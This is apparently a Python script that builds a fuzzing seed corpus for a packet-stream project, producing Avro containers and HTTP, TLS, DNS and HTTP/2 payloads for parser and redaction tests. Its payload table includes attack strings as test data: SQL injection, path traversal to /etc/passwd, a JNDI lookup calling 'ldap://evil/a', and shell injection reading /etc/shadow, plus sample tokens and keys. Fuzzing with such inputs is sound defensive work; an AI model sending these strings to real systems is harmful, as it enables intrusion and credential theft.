"""Write the seed corpus (fuzz/corpus/<target>/): ``python -m fuzz.corpus``. The files are committed,
so that a campaign starts from real inputs on any machine (they are the same on every run but for
the TLS hellos' random and key share).

Seeds: packet containers written by the project's ContainerWriter in every codec and by
fastavro's writer (several blocks, the full schema text, an older schema version without the
newer fields), an empty container; payload prefixes: HTTP/1.x requests and responses, a TLS
ClientHello from Python's own ssl module, DNS queries, the HTTP/2 preface, credentials in
headers, forms, JSON and multipart bodies, attack strings. Each target's seeds carry the
leading bytes its harness reads first (fuzz/c/*.c, targets.py).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import random
import shutil
import ssl
import struct
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import fastavro
import numpy as np

from pktstream.schemas import headers as H
from pktstream.schemas import load_schema_json
from pktstream.schemas.container import CODECS, ContainerWriter, encode_records, field_specs

OUT = Path(__file__).resolve().parent / "corpus"
SCHEMA = load_schema_json("packet")
HISTORY = Path(__file__).resolve().parent.parent / "schemas" / "history" / "packet"


def client_hello(server_name: str) -> bytes:
    """The first TLS record a Python client sends (a real ClientHello, SNI and all)."""
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    conn = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with contextlib.suppress(ssl.SSLWantReadError):  # it waits for the server's answer
        conn.do_handshake()
    return outgoing.read()


def dns_query(name: str, qtype: int = 1) -> bytes:
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def _u16be(v: int) -> bytes:
    return struct.pack("!H", v)


def dns_answer() -> bytes:
    """An answer to www.example.com A: a CNAME, an A, an AAAA, an MX and a TXT, names compressed."""
    q = dns_query("www.example.com")
    head = struct.pack("!HHHHHH", 0x1234, 0x8180, 1, 5, 0, 0)
    ptr = b"\xc0\x0c"  # the question's name
    cname = b"\x03web\xc0\x10"  # web.example.com
    rrs = ptr + struct.pack("!HHIH", 5, 1, 30, len(cname)) + cname
    rrs += b"\xc0\x2d" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([10, 1, 2, 3])
    rrs += b"\xc0\x2d" + struct.pack("!HHIH", 28, 1, 60, 16) + bytes.fromhex("20010db8000000000000000000000001")
    mx = struct.pack("!H", 10) + b"\x02mx\xc0\x10"
    rrs += b"\xc0\x10" + struct.pack("!HHIH", 15, 1, 300, len(mx)) + mx
    txt = b"\x0bv=spf1 -all"
    rrs += b"\xc0\x10" + struct.pack("!HHIH", 16, 1, 300, len(txt)) + txt
    return head + q[12:] + rrs


DNS_MESSAGES = {"query": dns_query("api.example.com", 28), "answer": dns_answer()}

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# the preface, then a SETTINGS frame and a HEADERS frame's first bytes
H2 = H2_PREFACE + bytes.fromhex("000012040000000000000300000064000400100000000600004000") + \
    bytes.fromhex("00001d0125000000010000000b0f82418aa0e41d139d09b8f01e07")

PAYLOADS: dict[str, bytes] = {
    "http_get": b"GET /api/v1/users/12345/orders?limit=10&token=abc HTTP/1.1\r\nHost: api.example.com\r\n"
                b"User-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
    "http_get_cut": b"GET /static/app.3f9a1b2c4d5e6f70.js HTTP/1.1\r\nHost: cdn.exa",
    "http_post_json": b"POST /v2/login HTTP/1.1\r\nHost: auth.example.org:8443\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 58\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x\r\n\r\n"
                      b"{\"user\": \"ann\", \"password\": \"hunter2\", \"otp\": 123456}",
    "http_post_form": b"POST /session HTTP/1.0\r\nHost: example.com\r\nCookie: sid=31d4d96e407aad42; theme=dark\r\n"
                      b"Content-Length: 39\r\n\r\nuser=bob&password=s3cr%20t&remember=on",
    "http_multipart": b"POST /upload HTTP/1.1\r\nHost: files.example.com\r\nContent-Type: multipart/form-data; "
                      b"boundary=XyZ\r\n\r\n--XyZ\r\nContent-Disposition: form-data; name=\"api_key\"\r\n\r\n"
                      b"AKIAEXAMPLEKEY\r\n--XyZ--\r\n",
    "http_response": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 27\r\n"
                     b"Set-Cookie: session=abc123; HttpOnly\r\n\r\n{\"id\": 7, \"token\": \"t0k3n\"}",
    "http_response_404": b"HTTP/1.0 404 Not Found\r\nServer: nginx\r\n\r\n",
    "http_attack_sqli": b"GET /items?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n"
                        b"Host: shop\r\n\r\n",
    "http_attack_traversal": b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    "http_attack_jndi": b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${${lower:j}${::-n}di:ldap://evil/a}\r\n\r\n",
    "http_attack_shell": b"GET /cgi-bin/ping?host=8.8.8.8;cat%20/etc/shadow HTTP/1.1\r\nHost: router\r\n\r\n",
    "http_options_absolute": b"OPTIONS http://proxy.example.com:3128/a/b?c=d HTTP/1.1\r\n"
                             b"Host: proxy.example.com\r\n\r\n",
    "tls_client_hello": client_hello("www.example.com"),
    "tls_client_hello_long_sni": client_hello("a-rather-long-host-name." * 4 + "example.net"),
    "dns_query": dns_query("www.example.com"),
    "dns_query_aaaa": dns_query("api.internal.example.org", 28),
    "h2_preface": H2,
    "icmp_unreachable": bytes.fromhex("4500001c00004000401100000a0000020a000001d43100350008c2b1"),
    "binary": bytes(range(256)),
}


def _row(i: int, payload: bytes) -> dict[str, Any]:
    """A packet record carrying this payload (TCP from a client to a server, or the answer)."""
    answer = payload.startswith(b"HTTP/")
    cli, srv = bytes(10) + b"\xff\xff" + bytes([10, 0, 0, 2]), bytes(10) + b"\xff\xff" + bytes([10, 0, 0, 1])
    udp = payload[2:4] == b"\x01\x00"
    return {
        "seq": i, "ts_ns": 1_796_000_000_000_000_000 + i * 1_000_000, "ifindex": 2, "rx_queue": 0,
        "src_addr": srv if answer else cli, "dst_addr": cli if answer else srv, "ip_version": 4,
        "protocol": 17 if udp else 6, "src_port": 80 if answer else 40000 + i, "dst_port": 40000 + i if answer else 80,
        "wire_len": 54 + len(payload), "ttl": 64, "tcp_flags": 0x18, "frag_flags": 2, "frag_offset": 0,
        "vlan_outer": 0, "vlan_inner": 0, "ethertype": 0x0800, "flags": 0, "sample_rate": 1,
        "payload_len": len(payload), "payload": payload, "direction": 1 if answer else 0, "segments": 1,
    }


def _columns(records: list[dict[str, Any]], width: int) -> dict[str, Any]:
    """Records in the encoder's column form (tests/support/avro_records.columns_of)."""
    n = len(records)
    cols: dict[str, Any] = {}
    for f in SCHEMA["fields"]:
        name = f["name"]
        if name == "payload":
            m = np.zeros((n, width), dtype=np.uint8)
            lens = np.zeros(n, dtype=np.int64)
            for i, r in enumerate(records):
                p = r["payload"][:width]
                m[i, : len(p)] = np.frombuffer(p, dtype=np.uint8)
                lens[i] = len(p)
            cols["payload"], cols["payload__len"] = m, lens
        elif isinstance(f["type"], dict):
            cols[name] = np.array([np.frombuffer(r[name], dtype=np.uint8) for r in records])
        else:
            cols[name] = np.array([r[name] for r in records], dtype=np.int64)
    return cols


def _records(names: Iterable[str], width: int) -> list[dict[str, Any]]:
    out = []
    for i, k in enumerate(names):
        r = _row(i, PAYLOADS[k])
        r["payload"] = r["payload"][:width]
        out.append(r)
    return out


def containers() -> dict[str, bytes]:
    """Packet-topic messages as producers write them, and as other Avro writers do."""
    meta = {H.HOST: "host-a", H.INTERFACE: "eth0", H.RUN_ID: "r1"}
    out: dict[str, bytes] = {}
    mix = ["http_get", "http_response", "tls_client_hello", "dns_query", "http_attack_sqli", "icmp_unreachable"]
    for codec in CODECS:
        recs = _records(mix, 64)
        w = ContainerWriter(SCHEMA, codec=codec, metadata={**meta, H.PAYLOAD_BYTES: "64"},
                            sync_marker=hashlib.md5(codec.encode()).digest())
        out[f"writer_{codec}"] = w.container(_columns(recs, 64), len(recs))
    recs = _records(["http_post_json", "http_multipart", "h2_preface"], 256)
    w = ContainerWriter(SCHEMA, codec="null", metadata={**meta, H.PAYLOAD_BYTES: "256"}, sync_marker=b"\x5a" * 16)
    out["writer_null_width256"] = w.container(_columns(recs, 256), len(recs))
    out["writer_empty"] = w.container({}, 0)
    # fastavro: the full schema text (docs and all), several blocks, its own metadata order
    for codec in ("null", "deflate"):
        buf = io.BytesIO()
        fastavro.writer(buf, fastavro.parse_schema(SCHEMA), _records(mix[:4], 64), codec=codec, sync_interval=200,
                        metadata={H.PAYLOAD_BYTES: "64"})
        out[f"fastavro_{codec}_blocks"] = buf.getvalue()
    # the first version of the schema (no direction, segments): the reader fills in their defaults
    old = json.loads((HISTORY / "v1.avsc").read_text())
    old_names = {f["name"] for f in old["fields"]}
    buf = io.BytesIO()
    recs = [{k: v for k, v in r.items() if k in old_names} for r in _records(mix[:3], 32)]
    fastavro.writer(buf, fastavro.parse_schema(old), recs, codec="snappy", metadata={H.PAYLOAD_BYTES: "32"})
    out["fastavro_v1_snappy"] = buf.getvalue()
    return out


def _u16(v: int) -> bytes:
    return struct.pack("<H", v)


def seeds() -> dict[str, dict[str, bytes]]:
    rnd = random.Random(23)
    conts = containers()
    payloads = list(PAYLOADS.items())
    by_target: dict[str, dict[str, bytes]] = {t: {} for t in
                                              ("decode", "parse", "redact", "container", "features", "payloads",
                                               "relayed", "snapshot")}
    by_target["container"] = {k: b"\0" + v for k, v in conts.items()}
    # containers whose header the target writes (targets.synthesized_container): codec and schema,
    # width, one block: record count and the records' bytes, as the producer encodes them
    specs = field_specs(SCHEMA)
    recs = _records(["http_get", "http_response", "tls_client_hello", "dns_query"], 1 << 16)
    block = encode_records(specs, _columns(recs, 256), len(recs))
    for c, codec in enumerate(CODECS):
        head = bytes([1, c]) + _u16(256) + b"\0" + _u16(len(recs))
        by_target["container"][f"synth_{codec}"] = head + block
    # the packet schema edited: nothing dropped (0xff), a field "extra" of type long added, rotated by 3
    fields = [*SCHEMA["fields"], {"name": "extra", "type": "long"}]
    edited = field_specs({**SCHEMA, "fields": fields[3:] + fields[:3]})
    block = encode_records(edited, {**_columns(recs, 256), "extra": np.arange(len(recs))}, len(recs))
    by_target["container"]["synth_edited"] = bytes([1, 5 << 2, 0xFF, 5, 3]) + _u16(256) + b"\0" + \
        _u16(len(recs)) + block
    # relayed (targets.relayed_values): runs of the relay's records, from two capture points, one of
    # them under an id that names no relayed schema, one cut short
    relayed = fastavro.parse_schema({**SCHEMA, "fields": [*SCHEMA["fields"], {"name": "host", "type": "string"},
                                                          {"name": "interface", "type": "string"}]})
    bodies = []
    for i, r in enumerate(_records(["http_get", "http_response", "tls_client_hello", "dns_query", "binary"], 256)):
        buf = io.BytesIO()
        fastavro.schemaless_writer(buf, relayed, {**r, "host": f"host-{'ab'[i % 2]}", "interface": "eth0"})
        bodies.append(buf.getvalue())
    run = b"".join(b"\0" + _u16(len(b)) + b for b in bodies)
    by_target["relayed"] = {"two_hosts": run, "other_id": run + b"\1" + _u16(len(bodies[0])) + bodies[0],
                            "cut": run + b"\0" + _u16(len(bodies[1]) - 1) + bodies[1][:-1]}
    by_target["features"] = {f"c_{k}": b"\0" + v for k, v in by_target["container"].items()}
    for i in range(6):  # fuzzed columns: any bytes make a batch (targets.columns_batch)
        by_target["features"][f"columns_{i}"] = b"\x01" + rnd.randbytes(600 + 400 * i)
    # decode: mode, width - 1 (u16), record count, block (fuzz_decode.c)
    for name, keys, width in (("mix", ["http_get", "http_response", "tls_client_hello"], 256),
                              ("dns", ["dns_query", "dns_query_aaaa"], 64),
                              ("cut", ["http_post_json", "binary"], 16)):
        recs = _records(keys, 1 << 16)
        block = encode_records(specs, _columns(recs, 1024), len(recs))
        by_target["decode"][f"packet_{name}"] = bytes([0]) + _u16(width - 1) + bytes([len(recs)]) + block
    # a writer layout of the same kinds in another order (mode 1): long, int, bytes, fixed(16)
    block = b"\x02\x04\x06abc" + bytes(16) + b"\x03\x05\x00" + bytes(16)
    by_target["decode"]["writer_layout"] = bytes([1, 255, 0, 2, 4, 0, 1, 2, 63]) + block
    by_target["decode"]["hostile_layout"] = bytes([2, 255, 0, 3]) + rnd.randbytes(120)
    # parse and redact: one row holding the whole payload (shape 0), and batches
    for k, p in payloads:
        by_target["parse"][k] = b"\x00" + p
        by_target["redact"][k] = b"\x00" + p
        by_target["redact"][f"names_{k}"] = b"\x40" + p
        by_target["payloads"][f"parse_{k}"] = b"\x00\x00" + p
    several = [PAYLOADS[k] for k in ("http_get", "http_response", "tls_client_hello", "h2_preface")]
    part = max(map(len, several))
    joined = b"".join(p.ljust(part, b"\0") for p in several)
    for shape in (0x80 | 3 | (5 << 3), 0x80 | 3 | (3 << 3), 0x80 | 3 | (7 << 3)):
        by_target["parse"][f"batch_{shape:02x}"] = bytes([shape]) + joined
        by_target["payloads"][f"parse_batch_{shape:02x}"] = b"\x00" + bytes([shape]) + joined
    # DNS messages (targets.dns_checks): a query, an answer with compressed names, the same over TCP
    for k, p in DNS_MESSAGES.items():
        by_target["payloads"][f"dns_{k}"] = b"\x02\x00" + p
        by_target["payloads"][f"dns_tcp_{k}"] = b"\x02\x01" + _u16be(len(p)) + p
    for k in ("http_post_json", "http_post_form", "http_multipart", "http_response", "http_get"):
        p = PAYLOADS[k]
        # records of 256 payload bytes, cap_len the payload's length (fuzz_redact.c, targets.redact_checks)
        shape = 0x80 | 0x40 | 1 | (7 << 3)
        half = len(p) // 2
        by_target["redact"][f"batch_{k}"] = bytes([shape]) + _u16(len(p)) + p[:half] + _u16(len(p)) + p[half:]
        by_target["payloads"][f"redact_{k}"] = b"\x01" + bytes([shape & ~1]) + _u16(len(p)) + p
    # redaction's other rules: names as written, shapes, userinfo, a header value continued, HTTP/2
    # header blocks (0x20: the same with --keep-http2-headers)
    h2 = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64"
          + b"\x00\x00\x0c\x01\x04\x00\x00\x00\x01\x82\x86\x40\x06cookie\x02ab"
          + b"\x00\x00\x04\x09\x04\x00\x00\x00\x01\x82\x84\x87\x41")
    more = {
        "names_as_written": b'POST / HTTP/1.1\r\nUser-Agent: a"b\r\n\r\n{"accessToken":["x","y"],'
                            b'"user":{"Pass-Word":1}}&user%5Bpassword%5D=x&token[]=y#access_token=z',
        "shapes": b"X-Note: eyJhbGciOi.eyJzdWIi.sig AKIAIOSFODNN7EXAMPLE ghp_" + b"a1" * 18 + b" glpat-" + b"x" * 20
                  + b"\r\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----",
        "userinfo": b"HTTP/1.1 302 Found\r\nLocation: https://u:pw@h/cb?code=c1&state=s#id_token=t\r\n\r\n",
        "continued": b"rest-of-a-cookie; sid=1\r\nX-Vault-Token: v\r\n folded\r\n\r\n",
        "path_token": b"GET /f/aZ3kQ9mP2xR7vL1nB8cT5wY4/raw HTTP/1.1\r\n",
        "h2": h2,
    }
    for k, p in more.items():
        by_target["redact"][f"rules_{k}"] = b"\x00" + p
        by_target["redact"][f"rules_keep_h2_{k}"] = b"\x20" + p
    by_target["snapshot"] = snapshot_seeds()
    return by_target


def snapshot_seeds() -> dict[str, bytes]:
    """State topics' partitions (targets.snapshot_messages): a snapshot in blocks and its manifest,
    one that grew (its new blocks, a tombstone, its manifest), an earlier build's parts and a
    one-message snapshot."""
    from pktstream.consumers.engine import snapshot

    def msg(kind: int, value: bytes, name: bytes = b"") -> bytes:
        return bytes([kind]) + _u16(len(value)) + name + value

    def image(doc: object, have: set[bytes]) -> tuple[bytes, set[bytes]]:
        pk = snapshot.packed(doc)
        bs = [bytes(b) for b in snapshot.blocks(pk, 256)]
        ds = [snapshot.digest(b) for b in bs]
        out = b"".join(msg(0, b) for b, d in zip(bs, ds, strict=True) if d not in have)
        return out + msg(2, snapshot.manifest("g", pk.size, ds)), set(ds)

    doc = {"data": {"n": np.arange(100), "rec": [np.zeros(3, "u1"), "x"]}, "sources": {"0": 5}, "watermark": 7,
           "token": "t"}
    first, have = image(doc, set())
    grown, _ = image({**doc, "data": {"n": np.arange(120), "rec": []}}, have)
    value = snapshot.pack(doc)
    n = -(-len(value) // 300)  # an earlier build's parts of 300 bytes: header GENERATION/i/PARTS
    heads = [f"g/{i}/{n}".encode() for i in range(n)]
    parts = b"".join(bytes([3]) + _u16(len(value[i * 300 : (i + 1) * 300])) + bytes([len(h)]) + h
                     + value[i * 300 : (i + 1) * 300] for i, h in enumerate(heads))
    return {"blocks": first, "grown": first + grown + msg(4, b""), "parts": parts, "one": msg(3, value, b"\0"),
            "named_wrong": msg(1, b"x" * 40, bytes(16)) + msg(2, snapshot.manifest("g", 40, [bytes(16)]))}


def write(out: Path = OUT) -> Mapping[str, int]:
    """Replace out/<target>/ by the seeds; bytes per target."""
    sizes = {}
    for target, files in seeds().items():
        d = out / target
        shutil.rmtree(d, ignore_errors=True)
        d.mkdir(parents=True)
        for name, data in files.items():
            (d / name).write_bytes(data)
        sizes[target] = sum(len(v) for v in files.values())
    return sizes


if __name__ == "__main__":
    for t, size in write().items():
        print(f"{t}: {size:,} bytes")
